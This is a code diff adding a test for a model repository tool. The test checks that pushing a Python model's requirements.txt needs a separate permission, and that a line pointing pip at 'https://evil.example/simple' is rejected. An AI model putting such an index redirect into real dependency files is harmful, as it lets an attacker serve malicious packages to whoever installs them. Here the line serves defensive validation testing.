@@ -48,6 +48,30 @@ def test_a_file_that_can_carry_code_is_refused(y: Yard, file: str, says: str) ->
     refused(y, work, says=(f"models/{model}/1/{file} E440 {says}",))
 
 
+def test_requirements_take_a_permission_of_their_own_and_name_packages_alone(y: Yard) -> None:
+    work = y.repository("packages")
+    allowed = ["python", "config", "labels"]
+    assert y.api("PATCH", "/repositories/packages", {"settings": {"formats": allowed}})[0] == 200
+    model = "models/packaged/1"
+    code = "class TritonPythonModel:\n    def execute(self, requests): return []\n"
+    config = 'backend: "python" output { name: "OUT" data_type: TYPE_FP32 dims: 1 }'
+    write(work, {f"{model}/model.py": code, "models/packaged/config.pbtxt": config})
+    write(work, {f"{model}/requirements.txt": "six==1.17.0\n"})
+    y.commit(work, "packages")
+    told = "would run packages of a Python environment ('1/requirements.txt')"
+    allow = "(modelyard repo change packages --add-format python_environment)"
+    refused(y, work, says=(f"E440 {told}", allow))
+    allowed.append("python_environment")
+    assert y.api("PATCH", "/repositories/packages", {"settings": {"formats": allowed}})[0] == 200
+    write(work, {f"{model}/requirements.txt": "six\n--index-url https://evil.example/simple\n"})
+    y.commit(work, "hostile")
+    refused(y, work, says=f"{model}/requirements.txt:2:1 E303 is '--index-url https://evil.example")
+    write(work, {f"{model}/requirements.txt": "six\n"})
+    y.commit(work, "packages from nowhere")
+    said = y.push(work)
+    assert "--environment-index or --environment-wheel-dir" in said
+
+
 @pytest.mark.parametrize(
     ("file", "content", "says"),
     [
